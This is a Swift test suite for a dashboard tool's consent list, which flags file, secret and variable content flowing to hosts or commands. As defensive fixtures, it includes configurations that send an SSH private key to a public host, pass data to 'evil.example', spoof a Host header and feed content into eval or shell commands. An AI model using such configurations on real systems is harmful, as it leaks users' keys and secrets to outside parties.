import Settings
import Testing

@testable import Boards

/// Content of a source that another one takes somewhere.
@Suite(.timeLimit(.minutes(3)))
struct FlowConsentTests {

    private func list(_ sources: String) throws -> ConsentList {
        let (board, problems) = readBoard("sources:\n\(sources)", environment: ["HOME": "/home/me"])
        #expect(problems.map(\.description) == [])
        return try #require(board).consentOfStranger
    }

    private func flows(_ sources: String) throws -> [String] {
        try list(sources).items.filter { $0.kind == .content }.map(\.text)
    }

    @Test(
        "Choices from a source and chosen rows count as content in a request; choices in the file and typed texts do not"
    )
    func selections() throws {
        let (board, problems) = readBoard(
            """
            variables: { n: { source: names }, stage: [a, b], q: { input: "" } }
            sources:
              names: { file: names.json }
              it:
                http: "https://e.example/${var.stage}?n=${var.n}&q=${var.q}&r=${row.names.x}"
                alert: { failed: 1, run: "echo x" }
              n: { file: other.json }
              filtered: { http: "https://f.example/", select: "[., $var.n]" }
              taker: { http: "https://g.example/${source.filtered[0]}" }
            """)
        #expect(problems.map(\.description) == [])
        let texts = try #require(board).consentOfStranger.items.map(\.text)
        let line = "names (file ./names.json) → https://e.example, in the URL"
        #expect(texts.count { $0 == line } == 1)
        #expect(
            texts.contains {
                $0.hasPrefix("alert (gets response of") && $0.hasSuffix(" and file ./names.json): echo x")
            })
        #expect(texts.contains { $0.hasPrefix("filtered (file ./names.json of names) → https://g.example") })
        #expect(!texts.contains { $0.contains("other.json") })
    }

    @Test("A file whose content is sent with a GET to a public host needs consent")
    func leak() throws {
        let list = try list(
            "  keys: { file: ~/.ssh/id_rsa }\n  it: { http: 'https://example.com/?k=${source.keys}' }\n")
        #expect(list.items.map(\.text) == ["keys (file ~/.ssh/id_rsa) → https://example.com, in the URL"])
    }

    @Test(
        "A consent line shows the source of content, its destination, and its place in the request",
        arguments: [
            (
                "a: { command: id -u }", "http: https://e.example, headers: { X-User: '${source.a}' }",
                "a (command 'id -u') → https://e.example, header X-User"
            ),
            (
                "a: { command: id, on: me@far }", "http: 'http://e.example/', method: POST, body: '${source.a}'",
                "a (command id on me@far) → http://e.example (not encrypted), in the body"
            ),
            (
                "a: { http: 'https://a.example/x' }", "command: x, env: { A: '${source.a}' }",
                "a (https://a.example) → command of it, variable A"
            ),
            (
                "a: { http: 'http://d/x', unix: /d.sock }", "command: x, on: '${source.a}'",
                "a (/d.sock) → command of it on ${source.a}, in the name of the host"
            ),
            (
                "a: { file: x }", "command: x, folder: '${source.a}'",
                "a (file ./x) → command of it, in the folder"
            ),
            ("a: { file: x }", "file: '${source.a}.log'", "a (file ./x) → file ./${source.a}.log, in the file"),
            (
                "a: { file: x }", "http: 'https://${source.a.host}/x'",
                "a (file ./x) → https://${source.a.host}/x (any public host), in the URL"
            ),
            (
                "a: { file: x }", "http: 'https://${source.a.host}/x', hosts: ['*.e.example', 10.0.0.0/8]",
                "a (file ./x) → https://${source.a.host}/x (any public host, and also *.e.example, 10.0.0.0/8 if that is private; headers and secrets only to *.e.example, 10.0.0.0/8), "
                    + "in the URL"
            ),
        ])
    func lines(giver: String, taker: String, line: String) throws {
        #expect(try flows("  \(giver)\n  it: { \(taker) }\n") == [line])
    }

    @Test("Content of derived sources is shown with their members")
    func composed() throws {
        let sources = """
              a: { file: x }
              b: { command: y, select: '. + $source.a' }
              all: { from: [b] }
              it: { http: 'https://e.example/${source.all.b}' }

            """
        #expect(
            try flows(sources) == [
                "all (file ./x of a) → https://e.example, in the URL",
                "all (command y of b) → https://e.example, in the URL",
                "a (file ./x) → command of b, in the number and times of loads",
            ])
    }

    @Test(
        "Content that was got with credentials is sent back without a line only with the same credentials in headers",
        arguments: [
            ("https://e.example/bot${secret.t}/x", "", "https://e.example/botOTHER/y?x=", "", 1),
            ("https://e.example/bot${secret.t}/x", "", "https://e.example/bot${secret.t}/y?x=", "", 1),
            ("https://e.example/x", "A: '${secret.t}'", "https://e.example/y?x=", "A: other", 1),
            ("https://e.example/x", "A: '${secret.t}'", "https://e.example/y?x=", "B: '${secret.t}'", 1),
            ("https://e.example/x", "A: '${secret.t}'", "https://e.example/y?x=", "A: '${secret.t}'", 0),
            ("https://e.example/x", "A: '${env.HOME}'", "https://e.example/y?x=", "", 1),
            (
                "https://e.example/x", "A: '${secret.t}'", "https://e.example/y?x=",
                "A: '${secret.t}', B: '${secret.t}'", 1
            ),
            ("https://e.example/x", "A: '${secret.t}'", "https://e.example/y?x=", "A: '${secret.t}', Cookie: me", 1),
            ("https://e.example/x", "A: '${secret.t}'", "https://e.example/y?key=k&x=", "A: '${secret.t}'", 1),
            ("https://e.example/x", "", "https://e.example/y?key=k&x=", "A: '${secret.t}'", 0),
            ("https://e.example/x?key=k", "", "https://e.example/y?x=", "", 1),
            ("https://me:p@e.example/x", "", "https://e.example/y?x=", "", 1),
            ("https://e.example/x", "X-JWT: k", "https://e.example/y?x=", "", 1),
            ("https://e.example/x", "A: a", "https://e.example/y?x=", "", 0),
        ])
    func backWithSecret(giver: String, header: String, taker: String, other: String, count: Int) throws {
        let (board, problems) = readBoard(
            """
            secrets: { t: { env: T } }
            sources:
              a: { http: "\(giver)", headers: { \(header) } }
              it: { http: "\(taker)${source.a.x}", headers: { \(other) } }
            """, environment: ["HOME": "/home/me"])
        #expect(problems.map(\.description) == [])
        let items = try #require(board).consentOfStranger.items
        #expect(items.count { $0.kind == .content } == count)
    }

    @Test("Content sent back to its server needs no line; another port, scheme or host does")
    func back() throws {
        func flows(_ giver: String, _ taker: String) throws -> Int {
            try self.flows("  a: { http: '\(giver)' }\n  it: { http: '\(taker)' }\n").count
        }
        #expect(try flows("https://e.example/login", "https://E.example:443/x?t=${source.a.t}") == 0)
        #expect(try flows("https://e.example/login", "https://e.example:444/x?t=${source.a.t}") == 1)
        #expect(try flows("https://e.example/login", "http://e.example/x?t=${source.a.t}") == 1)
        #expect(try flows("https://e.example/login", "https://api.e.example/x?t=${source.a.t}") == 1)
        // An unknown host may be private, and can have the login loaded again.
        #expect(try flows("https://e.example/login", "${source.a.next}") == 2)
    }

    @Test("Items of a source count as its content; items listed in the file need no line")
    func items() throws {
        func texts(_ items: String) throws -> [String] {
            let each = "each: { service: \(items) }, http: 'https://e.example/${item.service.name}'"
            return try list("  services: { file: x }\n  it: { \(each) }\n").items.map(\.text)
        }
        #expect(try texts("{ source: services }") == ["services (file ./x) → https://e.example, in the URL"])
        #expect(try texts("[{ name: a }]") == [])
    }

    @Test(
        "Content that decides how often or when a request is made or a command is run is shown, though it is not sent",
        arguments: [
            "each: { i: { source: h } }, http: 'https://e.example/c'",
            "each: { i: { source: h } }, http: 'https://e.example/c', title: '${item.i}'",
            "each: { i: { source: plain } }, http: 'https://e.example/c', select: '$source.h'",
            "http: 'https://e.example/c', select: '$source.h'",
            "http: 'https://e.example/c', select: '$row.h'",
            "http: 'https://e.example/c', select: '$var.v'",
            "http: 'https://e.example/c', title: '${row.h.a}'",
            "http: 'https://e.example/c', alert: { when: '$source.h' }",
            "http: 'https://e.example/c', alert: { when: '$var.v', watch: all }",
            "command: curl e.example, on: me@e.example, select: '$source.h'",
            "command: curl e.example, each: { i: { source: h } }",
        ])
    func timing(taker: String) throws {
        let (board, problems) = readBoard(
            """
            variables: { v: { source: h } }
            sources:
              f: { file: ~/x.json }
              h: { from: f, select: '.[0]' }
              plain: { http: 'https://e.example/d' }
              g: { \(taker) }
            """, environment: ["HOME": "/home/me"])
        #expect(problems.map(\.description) == [])
        let flows = try #require(board).consentOfStranger.items.filter { $0.kind == .content }.map(\.text)
        let line = "h (file ~/x.json of f) → "
        #expect(flows.contains { $0.hasPrefix(line) && $0.hasSuffix(", in the number and times of loads") })
    }

    @Test("The times of loads need no line if their content is sent as well, comes back to its server, or stays here")
    func knownTiming() throws {
        let texts = try flows(
            """
              f: { file: x }
              h: { http: 'https://e.example/d' }
              one: { each: { i: { source: f } }, http: 'https://e.example/${item.i}', select: '$source.f' }
              two: { each: { i: { source: h } }, http: 'https://e.example/c' }
              three: { file: y, select: '$source.f' }
              four: { from: three, title: '${source.f}' }

            """)
        #expect(texts == ["f (file ./x) → https://e.example, in the URL"])
    }

    @Test(
        "Content that decides whether a source is loaded is shown with each server that the source needs",
        arguments: [
            "g: { file: x, select: '[$source.bit, $source.f]' }",
            "g: { from: f, select: '$var.v' }",
            "g: { from: f, select: '$row.bit' }",
            "g: { from: f, title: '${row.bit.a}' }",
            "g: { from: [f, x], needs: any, select: '[., $row.bit]' }",
            "g: { file: x, each: { i: { source: bit } }, select: '[., $source.f]' }",
            "g: { file: '~/x${row.bit.k}', select: '$source.f' }",
            "g: { file: '${source.bit.k}', select: '$source.f' }",
            "g: { command: ls, env: { A: '${source.bit}', B: '${source.f}' } }",
        ])
    func demand(taker: String) throws {
        let (board, problems) = readBoard(
            """
            variables: { v: { source: bit } }
            sources:
              s: { file: ~/one.json }
              x: { file: x }
              bit: { from: s, select: 'if . == 1 then . else error end' }
              f: { http: 'http://evil.example/bit0', every: never }
              \(taker)
            pages: [{ title: p, rows: [g] }]
            """, environment: ["HOME": "/home/me"])
        #expect(problems.map(\.description) == [])
        let flows = try #require(board).consentOfStranger.items.filter { $0.kind == .content }.map(\.text)
        let line = "bit (file ~/one.json of s) → http://evil.example (not encrypted), in the number and times of loads"
        #expect(flows.contains(line))
    }

    @Test("A private server can have the source of a credential loaded again, which is shown")
    func renewal() throws {
        let texts = try flows(
            """
              f: { http: 'https://evil.example/' }
              g: { http: 'http://10.0.0.1/', headers: { X-T: '${source.f.t}' } }
              h: { http: 'https://e.example/', headers: { X-T: '${source.f.t}' } }

            """)
        #expect(
            texts == [
                "f (https://evil.example) → http://10.0.0.1 (not encrypted), header X-T",
                "f (https://evil.example) → https://e.example, header X-T",
                "g (http://10.0.0.1) → https://evil.example, in the number and times of loads",
            ])
    }

    @Test(
        "Items, choices and initial texts of the file that become a part of an action are shown",
        arguments: [
            (
                "a: { each: { i: [start, stop] }, http: 'http://10.0.0.1/${item.i}' }",
                #"${item.i} (one of ["start","stop"]) → http://10.0.0.1 (not encrypted), in the URL"#
            ),
            (
                "a: { each: { i: [{ k: x }] }, command: 'eval \"$X\"', env: { X: '${item.i.k}' } }",
                #"${item.i.k} (one of [{"k":"x"}]) → command of a, variable X"#
            ),
            (
                "a: { command: ls, on: '${var.host}' }",
                "${var.host} (one of near, 'f a r') → command of a on ${var.host}, in the name of the host"
            ),
            (
                "a: { command: x, env: { X: '${var.list}' } }",
                "${var.list} (one of a, b; initially b; joined by '; x ') → command of a, variable X"
            ),
            (
                "a: { http: 'https://e.example', method: POST, body: '${var.q}' }",
                "${var.q} (typed text, initially 'a;b') → https://e.example, in the body"
            ),
            (
                "a: { file: '~/${var.host}' }\n  b: { http: 'https://e.example/?${source.a}' }",
                "${var.host} (one of near, 'f a r') → file ~/${var.host}, in the file"
            ),
            (
                "a: { file: x, alert: { failed: 1, title: rm x, run: 'sh -c \"$SENTENCE\"' } }",
                "title 'rm x' → command of an alert of a"
            ),
        ])
    func values(sources: String, line: String) throws {
        func texts(_ sources: String) throws -> [String] {
            let (board, problems) = readBoard(
                """
                variables:
                  host: [near, f a r]
                  q: { input: 'a;b' }
                  list: { choices: [a, b], several: true, default: b, join: '; x ' }
                sources:
                  \(sources)
                """, environment: ["HOME": "/home/me"])
            #expect(problems.map(\.description) == [])
            return try #require(board).consentOfStranger.items.map(\.text)
        }
        #expect(try texts(sources).filter { $0 == line }.count == 1)
    }

    @Test(
        "An environment variable in an option of any type is shown, with the server that can observe it",
        arguments: [
            ("paging: { parameter: page, first: '${env.N}' }", "in the number and times of loads"),
            ("every: '${env.N}s'", "in the number and times of loads"),
            ("timeout: '${env.N}s'", "in the number and times of loads"),
            ("ca: './${env.N}.pem'", "in the path of the certificates"),
        ])
    func options(option: String, place: String) throws {
        let (board, _) = readBoard(
            "sources: { a: { http: 'https://e.example/a', \(option) } }", environment: ["N": "31"])
        let texts = try #require(board).consentOfStranger.items.map(\.text)
        #expect(
            texts.contains {
                $0.hasPrefix("variable N ") && $0.contains("→ https://e.example") && $0.hasSuffix(", \(place)")
            })
    }

    @Test("An environment variable that decides which source a page shows is shown")
    func shownSource() throws {
        let (board, _) = readBoard(
            "sources: { a: { http: 'https://e.example/a' } }\npages: [{ title: p, rows: ['${env.N}'] }]",
            environment: ["N": "a"])
        let texts = try #require(board).consentOfStranger.items.map(\.text)
        #expect(texts == ["variable N → titles, names and filters of the board"])
    }

    @Test("Choices and initial texts of variables are written in the file, because they are sent without a line")
    func writtenChoices() {
        for variable in ["['${env.N}']", "{ input: '${board.dir}' }", "{ source: a, all: '${env.N}' }"] {
            let (_, problems) = readBoard(
                "variables: { v: \(variable) }\nsources: { a: { file: x } }", environment: ["N": "a"])
            #expect(problems.count == 1, "\(variable)")
        }
    }

    @Test("Choices for which a key asks are shown")
    func asked() throws {
        let (board, _) = readBoard(
            """
            sources: { a: { file: x } }
            keys: { E: { on: a, run: 'eval "$what"', ask: { what: { choices: [go, rm x] }, n: { text: N, default: d } } } }
            """)
        let texts = try #require(board).consentOfStranger.items.map(\.text)
        #expect(texts.contains("what (one of go, 'rm x') → command of key E"))
        #expect(texts.contains("n (typed text, initially d) → command of key E"))
    }

    @Test("A secret or variable that names the account is shown, because it decides which cached response is validated")
    func account() throws {
        let (board, _) = readBoard(
            """
            secrets: { t: { file: ~/pin } }
            sources:
              a: { http: 'https://e.example/a', account: '${secret.t}' }
              b: { http: 'https://e.example/b', account: '${env.KEY}' }
            """, environment: ["HOME": "/home/me", "KEY": "k"])
        #expect(
            try #require(board).consentOfStranger.items.map(\.text) == [
                "t from file ~/pin → https://e.example, as the account",
                "variable KEY → https://e.example, as the account",
            ])
    }

    @Test("A variable in the filter of a request decides the times of its loads, because failures are repeated sooner")
    func ownVariables() throws {
        let (board, _) = readBoard(
            "sources: { p: { http: 'https://e.example/a', select: 'if $env.TOKEN == \"a\" then error else . end' } }",
            environment: ["TOKEN": "hunter2"])
        let texts = try #require(board).consentOfStranger.items.map(\.text)
        #expect(texts.contains("variable TOKEN (by p) → https://e.example, in the number and times of loads"))
    }

    @Test("A variable that a filter inserts into content is shown with its destinations, including the same server")
    func variables() throws {
        let (board, _) = readBoard(
            """
            sources:
              p: { http: 'https://e.example/a', select: '{k: $env.TOKEN, d: $board.dir}' }
              q: { http: 'https://e.example/b?${source.p.k}' }
            """, environment: ["TOKEN": "hunter2"])
        let texts = try #require(board).consentOfStranger.items.map(\.text)
        #expect(texts.contains("variable TOKEN (by p) → https://e.example, in the URL"))
        #expect(texts.contains("the path of the board (by p) → https://e.example, in the URL"))
    }

    @Test("Content for another site of a server is a flow")
    func sites() throws {
        let sites = """
              i: { http: 'https://cdn.example/', headers: { Authorization: 'Bearer ${env.T}' } }
              j: { http: 'https://cdn.example/${source.i.x}', headers: { Host: evil.example } }

            """
        let (board, _) = readBoard("sources:\n\(sites)", environment: ["T": "t"])
        let flows = try #require(board).consentOfStranger.items.filter { $0.kind == .content }.map(\.text)
        #expect(flows == ["i (https://cdn.example) → https://cdn.example (as host evil.example), in the URL"])
    }

    @Test(
        "Items and parameters of pages are written in the file, since a variable in them would be sent unnoticed",
        arguments: [
            "each: { s: ['${env.T}'] }, http: 'https://e.example/${item.s}'",
            "each: { s: ['${board.dir}'] }, http: 'https://e.example/${item.s}'",
            "each: { s: [{ a: '${env.T}' }] }, http: 'https://e.example/${item.s.a}'",
            "http: 'https://e.example/', paging: { parameter: '${env.T}' }",
        ])
    func literal(source: String) {
        let problems = readBoard("sources: { it: { \(source) } }", environment: ["T": "t"]).problems.map(\.description)
        #expect(problems.count == 1)
        #expect(problems.allSatisfy { $0.contains("it cannot contain a variable") })
    }

    @Test("Content in a body of an unknown form is rejected")
    func body() {
        func problems(_ options: String) -> [String] {
            readBoard("sources:\n  a: { file: x }\n  it: { http: 'https://e.example/', method: POST, \(options) }\n")
                .problems.map(\.description)
        }
        #expect(problems("body: 'a=${source.a}&b=1'").first?.contains("Content-Type") == true)
        #expect(problems("body: '{\"a\": ${source.a}}'") == [])
        let form = "headers: { Content-Type: application/x-www-form-urlencoded }"
        #expect(problems("body: 'a=${source.a}&b=1', \(form)") == [])
    }

    @Test("A command that receives content from another source through a filter is shown with it")
    func filtered() throws {
        let text = """
            sources:
              a: { file: x }
              it: { http: 'https://e.example/', select: '. + $source.a', alert: { failed: 1, run: say } }
            """
        let list = try #require(readBoard(text).board).consentOfStranger
        #expect(
            list.items.map(\.text) == [
                "alert (gets file ./x): say", "a (file ./x) → https://e.example, in the number and times of loads",
            ])
    }

    @Test("A key that receives the response of a request with content is shown with it")
    func passedOn() throws {
        let text = """
            sources:
              a: { file: x }
              it: { http: 'https://e.example/${source.a}', alert: { failed: 1, run: say } }
            """
        let list = try #require(readBoard(text).board).consentOfStranger
        #expect(list.items.contains { $0.text == "alert (gets response of 'https://e.example/${source.a}'): say" })
    }
}
